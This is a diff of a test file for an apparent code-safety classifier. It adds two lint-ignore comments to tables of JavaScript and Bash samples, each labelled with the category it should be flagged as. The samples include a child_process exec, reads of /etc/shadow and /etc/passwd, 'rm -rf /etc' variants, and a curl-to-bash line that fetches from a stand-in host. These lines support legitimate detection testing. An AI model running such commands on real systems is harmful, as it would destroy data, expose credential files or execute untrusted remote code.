@@ -125,6 +125,7 @@ describe('JavaScript', () => {
     'process.mainModule': ['process.mainModule.require("child_process").exec("id")', shell],
     'an import that waits': ['const c = await import("child_process"); c.exec("id")', shell],
     apply: ['const c = require("child_process"); c.exec.apply(null, ["id"])', shell],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is code of another language
     'a template': ['const p = "etc"; require("fs").readFileSync(`/${p}/shadow`)', 'files.read'],
   };
   for (const [name, [code, ...expected]] of Object.entries(cases))
@@ -145,6 +146,7 @@ describe('Bash', () => {
     'a here string': ['bash <<< "rm -rf /etc"', 'files.delete'],
     'a here document': ['bash <<E\nrm -rf /etc\nE', 'files.delete'],
     'a process substituted': ['bash <(curl -s http://x.example/a)', 'injection.evaluate'],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is code of another language
     'a path of parts': ['D=/e; cat ${D}tc/shadow', 'files.read'],
     xargs: ['echo /etc/passwd | xargs rm', 'files.delete'],
     find: ['find /etc -name "*" -exec rm {} \\;', 'files.delete'],
